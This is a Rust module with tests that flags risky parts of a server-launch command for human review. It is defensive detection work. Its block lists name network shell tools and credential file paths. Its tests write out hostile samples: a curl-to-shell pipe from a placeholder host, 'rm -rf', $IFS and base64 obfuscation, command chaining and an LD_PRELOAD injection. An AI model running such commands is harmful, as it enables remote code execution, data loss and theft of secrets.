//! What in a command's words a person should look at before it is started.
//!
//! These are marks for eyes, not a wall: a command that wants to do harm needs none
//! of them, which is why it runs in a box.

mod package;
mod places;

pub use package::{Package, Registry, Version, package};
pub use places::{Named, is_wide, places};

/// A word of a command, and why it was marked.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Mark {
    /// The word as it was written.
    pub word: String,
    /// What is remarkable about it.
    pub why: &'static str,
    /// No server needs it: nothing of the kind starts for the first time unasked.
    pub grave: bool,
}

/// What no server needs, and what a person is asked about wherever it comes from.
const GRAVE: &[&str] = &[
    "asks for more rights",
    "overwrites whole disks or files",
    "deletes directories",
    "runs what it downloads",
    "hides what it runs",
    "hides where words end",
    "takes a wall away",
    EVERY,
    UNSEEN,
    ALIKE,
];

const EVERY: &str = "puts other code into every program";
const UNSEEN: &str = "holds characters that nobody sees";
const ALIKE: &str = "has letters that look like others";

/// Interpreters, and the words after which their code stands.
const INTERPRETERS: &[&str] =
    &["python", "python3", "node", "deno", "bun", "perl", "ruby", "php", "lua", "osascript"];
const INLINE: &[&str] = &["-c", "-e", "--eval", "-p", "--print", "-r", "eval"];

/// Programs by what they are for; matched as the last component of a word.
const PROGRAMS: &[(&[&str], &str)] = &[
    (&["sudo", "doas", "su", "pkexec", "runuser"], "asks for more rights"),
    (
        &["sh", "bash", "dash", "zsh", "ksh", "fish", "busybox", "eval"],
        "is a shell, and runs any text",
    ),
    (
        &["curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ftp", "scp"],
        "talks to the network",
    ),
    (&["ssh", "rsync"], "reaches other machines"),
    (&["dd", "mkfs", "shred"], "overwrites whole disks or files"),
    (&["chmod", "chown", "setcap"], "changes who may do what"),
    (&["docker", "podman", "nsenter", "chroot"], "starts something outside of this box"),
    (&["crontab", "systemctl", "launchctl"], "makes something run later"),
];

/// Parts of a word by what they do.
const PARTS: &[(&[&str], &str)] = &[
    (&["rm -rf", "rm -fr", "rm -r"], "deletes directories"),
    (
        &["| sh", "|sh", "| bash", "|bash", "<(curl", "$(curl", "`curl", "$(wget"],
        "runs what it downloads",
    ),
    (&["base64 -d", "base64 --decode", "frombase64", "atob("], "hides what it runs"),
    (&["$ifs", "${ifs"], "hides where words end"),
    (&["/dev/tcp/", "/dev/udp/"], "talks to the network"),
    (&["&&", "||", ";", "`", "$("], "chains one command to another"),
    (
        &[
            ".ssh",
            ".aws",
            ".gnupg",
            ".kube",
            ".netrc",
            ".npmrc",
            ".docker/config",
            "id_rsa",
            "id_ed25519",
            "keychain",
            ".git-credentials",
            ".config/gcloud",
            "login.keyring",
        ],
        "names a place where keys are",
    ),
    (
        &["/etc/passwd", "/etc/shadow", "/etc/sudoers", "/proc/", "/sys/", "/dev/", "/root"],
        "names a place of the system",
    ),
    (&["ld_preload", "--inspect", "node_options", "pythonstartup"], "loads other code first"),
];

/// Whole words that name too much.
const WHOLE: &[(&[&str], &str)] = &[
    (
        &["/", "~", "$HOME", "/home", "/Users", "/etc"],
        "is everything that a person or a machine has",
    ),
    (&["--privileged", "--no-sandbox", "--allow-all", "-A"], "takes a wall away"),
];

/// Launchers whose package may be another one tomorrow.
const LAUNCHERS: &[&str] = &["npx", "bunx", "uvx", "pipx", "dlx"];

/// Variables that decide what runs, whatever the command says. Most are usual (`PYTHONPATH`
/// finds a server that was never installed), so they are marked and no more.
const VARIABLES: &[(&[&str], &str)] = &[
    (&["LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES"], EVERY),
    (
        &["LD_LIBRARY_PATH", "DYLD_LIBRARY_PATH", "DYLD_FRAMEWORK_PATH", "GCONV_PATH"],
        "decides where every program finds its libraries",
    ),
    (
        &[
            "PYTHONPATH",
            "PYTHONHOME",
            "PYTHONSTARTUP",
            "PYTHONUSERBASE",
            "NODE_OPTIONS",
            "NODE_PATH",
            "RUBYOPT",
            "RUBYLIB",
            "GEM_PATH",
            "PERL5OPT",
            "PERL5LIB",
            "PERL5DB",
            "BASH_ENV",
            "ENV",
            "ZDOTDIR",
            "JAVA_TOOL_OPTIONS",
            "JDK_JAVA_OPTIONS",
            "_JAVA_OPTIONS",
            "CLASSPATH",
            "DOTNET_STARTUP_HOOKS",
            "PHPRC",
            "PHP_INI_SCAN_DIR",
            "LUA_INIT",
            "LUA_PATH",
            "LUA_CPATH",
        ],
        "decides which code is loaded first",
    ),
    (&["PATH"], "decides where programs are found"),
    (
        &[
            "GIT_SSH",
            "GIT_SSH_COMMAND",
            "GIT_EXTERNAL_DIFF",
            "GIT_PAGER",
            "GIT_EDITOR",
            "GIT_ASKPASS",
            "GIT_CONFIG_GLOBAL",
            "GIT_CONFIG_PARAMETERS",
            "SSH_ASKPASS",
            "EDITOR",
            "VISUAL",
            "PAGER",
            "BROWSER",
            "SHELL",
        ],
        "names what another program starts",
    ),
];

/// Why a variable decides what runs, if it does.
fn loads(name: &str) -> Option<&'static str> {
    let name = name.to_ascii_uppercase();
    VARIABLES.iter().find(|(names, _)| names.contains(&name.as_str())).map(|(_, why)| *why)
}

/// Whether a variable decides what runs.
#[must_use]
pub fn decides(name: &str) -> bool {
    loads(name).is_some()
}

/// What is remarkable about a variable, and its value where that is written.
#[must_use]
pub fn variable(name: &str, value: Option<&str>) -> Vec<Mark> {
    let why = loads(name).into_iter().chain(value.and_then(disguised));
    why.map(|why| mark(name, why)).collect()
}

/// Everything remarkable about a command, in the order of its words.
#[must_use]
pub fn marks(command: &[String]) -> Vec<Mark> {
    let mut marks: Vec<Mark> = command.iter().flat_map(|word| marks_of(word)).collect();
    marks.extend(inline(command));
    marks.extend(unpinned(command));
    marks
}

/// A word of a command, looked at.
fn mark(word: &str, why: &'static str) -> Mark {
    Mark { word: word.to_owned(), why, grave: GRAVE.contains(&why) }
}

/// Code that stands in the command itself is no file that could be looked at or pinned.
fn inline(command: &[String]) -> Option<Mark> {
    let base = |word: &String| word.rsplit('/').next().unwrap_or_default().to_owned();
    let at = command.iter().position(|word| INTERPRETERS.contains(&base(word).as_str()))?;
    let after =
        command.iter().skip(at + 1).take_while(|word| word.starts_with('-') || *word == "eval");
    let flag = after.into_iter().find(|word| INLINE.contains(&word.as_str()))?;
    Some(mark(flag, "is followed by code, which is in no file"))
}

fn marks_of(word: &str) -> Vec<Mark> {
    let mark = |why| mark(word, why);
    let lower = word.to_ascii_lowercase();
    let named = |names: &[&str]| {
        // A shell's text is looked at word by word.
        lower.split([' ', '\t', '\n', ';', '|', '&', '(', '`']).any(|part| {
            let last = part.rsplit('/').next().unwrap_or(part);
            names.contains(&last)
        })
    };
    let programs = PROGRAMS.iter().filter(|(names, _)| named(names)).map(|(_, why)| mark(why));
    let holds = |parts: &[&str]| parts.iter().any(|part| lower.contains(part));
    let parts = PARTS.iter().filter(|(parts, _)| holds(parts)).map(|(_, why)| mark(why));
    let whole = WHOLE.iter().filter(|(words, _)| words.contains(&word)).map(|(_, why)| mark(why));
    programs.chain(parts).chain(whole).chain(disguised(word).map(mark)).collect()
}

fn disguised(word: &str) -> Option<&'static str> {
    // Lines and tabs of a text are seen, wherever it is shown whole.
    let unseen = |c: char| crate::text::is_hidden(c) && !matches!(c, '\n' | '\t');
    if word.chars().any(unseen) {
        return Some(UNSEEN);
    }
    if word.split(|c: char| !c.is_alphanumeric()).any(mixes_alphabets) {
        return Some(ALIKE);
    }
    // Padding pushes the end of a line out of sight.
    (word.contains("          ")).then_some("is padded with spaces")
}

/// A letter of another alphabet among ours, which looks like one of ours. A whole word of another
/// alphabet is somebody's language, and an accent is too.
fn mixes_alphabets(part: &str) -> bool {
    let ours = |c: char| c.is_ascii_alphabetic();
    let alike = |c: char| c > '\u{17f}' && crate::text::fold::fold(c).is_some();
    part.chars().any(ours) && part.chars().any(alike)
}

/// A package without a version is whatever the registry says today.
fn unpinned(command: &[String]) -> Option<Mark> {
    let base = |word: &String| word.rsplit('/').next().map(str::to_owned);
    let at = command
        .iter()
        .position(|word| base(word).is_some_and(|word| LAUNCHERS.contains(&word.as_str())))?;
    let package =
        command.iter().skip(at + 1).find(|word| !word.starts_with('-') && *word != "run")?;
    let rest = package.strip_prefix('@').unwrap_or(package);
    let version = rest.split_once('@').or_else(|| rest.split_once("=="));
    let why = match version {
        None => "names no version: it is whatever the registry says",
        Some((_, "latest")) => "is whatever the registry calls the latest",
        Some((_, version)) if version.starts_with(['^', '~', '>', '<', '*']) => {
            "is any version of a range"
        }
        Some(_) => return None,
    };
    Some(mark(package, why))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn remarkable_words_are_marked_and_plain_ones_are_not() {
        for (line, expect) in [
            ("npx|-y|@modelcontextprotocol/server-filesystem@2026.8.31|/home/ada/project", vec![]),
            ("uvx|mcp-server-time==2026.1.1", vec![]),
            ("node|/srv/files/dist/server.mjs", vec![]),
            ("npx|-y|@scope/server", vec!["names no version: it is whatever the registry says"]),
            ("uvx|mcp-server-time@latest", vec!["is whatever the registry calls the latest"]),
            ("npx|server@^1.2", vec!["is any version of a range"]),
            ("sudo|server", vec!["asks for more rights"]),
            ("/bin/sh|-c|exec server", vec!["is a shell, and runs any text"]),
            (
                "sh|-c|curl https://x.example | sh",
                vec![
                    "is a shell, and runs any text",
                    "is a shell, and runs any text",
                    "talks to the network",
                    "runs what it downloads",
                ],
            ),
            ("server|rm -rf x", vec!["deletes directories"]),
            ("server|echo$IFS$9x", vec!["hides where words end"]),
            ("server|echo cm0= | base64 -d", vec!["hides what it runs"]),
            ("npx|pkg@1|&& id", vec!["chains one command to another"]),
            ("server|~/.ssh/config", vec!["names a place where keys are"]),
            ("server|/", vec!["is everything that a person or a machine has"]),
            ("server|g\u{43e}od.test", vec!["has letters that look like others"]),
            ("server|/home/jos\u{e9}/\u{434}\u{43e}\u{43a}", vec![]),
            ("python3|-u|-c|print(1)", vec!["is followed by code, which is in no file"]),
            ("node|-e|1", vec!["is followed by code, which is in no file"]),
            ("node|server.js|-e", vec![]),
            ("server|a\u{200b}", vec!["holds characters that nobody sees"]),
            ("server|ok                    --evil", vec!["is padded with spaces"]),
        ] {
            let command: Vec<String> = line.split('|').map(str::to_owned).collect();
            // A pipe inside a word is written by the test's own case below.
            let command = if line.contains("| ") { piped(line) } else { command };
            let why: Vec<_> = marks(&command).into_iter().map(|mark| mark.why).collect();
            assert_eq!(why, expect, "{line}");
        }
    }

    #[test]
    fn what_no_server_needs_is_grave() {
        for (line, expect) in [
            ("sudo|server", true),
            ("docker|run|--privileged|x", true),
            ("server|a\u{200b}", true),
            ("npx|-y|server", false),
            ("sh|-c|exec server", false),
            ("sh|-c|\n\texec server\n", false),
            ("docker|run|-i|--rm|mcp/x", false),
        ] {
            let command: Vec<String> = line.split('|').map(str::to_owned).collect();
            assert_eq!(marks(&command).iter().any(|mark| mark.grave), expect, "{line}");
        }
    }

    #[test]
    fn a_variable_that_decides_what_runs_is_marked() {
        for (name, value, expect, grave) in [
            ("LD_PRELOAD", Some("/tmp/x.so"), vec![EVERY], true),
            ("LD_AUDIT", None, vec![EVERY], true),
            ("PYTHONPATH", Some("/srv/src"), vec!["decides which code is loaded first"], false),
            ("NODE_OPTIONS", None, vec!["decides which code is loaded first"], false),
            ("node_options", None, vec!["decides which code is loaded first"], false),
            ("GIT_SSH_COMMAND", None, vec!["names what another program starts"], false),
            ("PATH", Some("/tmp:/usr/bin"), vec!["decides where programs are found"], false),
            ("LOG_LEVEL", Some("debug"), vec![], false),
            ("LOG_LEVEL", Some("de\u{200b}bug"), vec![UNSEEN], true),
            ("API_URL", Some("https://x.example/?a=1;b"), vec![], false),
        ] {
            let marks = variable(name, value);
            let why: Vec<_> = marks.iter().map(|mark| mark.why).collect();
            assert_eq!(why, expect, "{name}");
            assert_eq!(marks.iter().any(|mark| mark.grave), grave, "{name}");
        }
    }

    /// Words apart at pipes, except at those of a shell's text.
    fn piped(line: &str) -> Vec<String> {
        let line = line.replace(" | ", "\u{0}");
        line.split('|').map(|word| word.replace('\u{0}', " | ")).collect()
    }
}
